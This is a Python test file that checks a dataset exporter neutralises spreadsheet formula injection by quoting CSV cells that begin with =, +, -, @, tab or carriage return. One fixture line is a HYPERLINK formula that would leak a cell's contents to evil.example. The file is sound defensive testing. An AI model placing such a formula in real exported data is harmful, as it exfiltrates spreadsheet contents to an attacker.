"""Exports of the live dataset: what a CSV cell may start with."""

from __future__ import annotations

import csv
import json

from conftest import write_jsonl

from synth.export import export
from synth.seeds import read_seeds

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2, "my card never came")',
    "+1 555 card charged twice",
    "-2 euros taken for a card payment",
    "@SUM(1+1) why was my card declined",
    "\tcard arrived with a tab first",
    "\rcard arrived with a carriage return",
]


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_jsonl_is_unchanged(
    project, tmp_path
):
    rows = [{"text": t, "label": "card_arrival"} for t in FORMULAS]
    plain = ["an ordinary question - with a dash = inside", "my card came\rtoday, twice"]
    rows += [{"text": t, "label": "card_arrival"} for t in plain]
    write_jsonl(project.seeds, rows)
    config = project.config()
    with project.store() as store:
        store.examples.add_seeds(read_seeds(project.seeds, config).seeds)
        export(store, config, tmp_path / "out.csv", "csv")
        export(store, config, tmp_path / "out.jsonl", "jsonl")

    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        texts = [r["text"] for r in csv.DictReader(f)]
    assert sorted(texts) == sorted(["'" + t for t in FORMULAS] + plain)
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert sorted(json.loads(line)["text"] for line in lines) == sorted(r["text"] for r in rows)
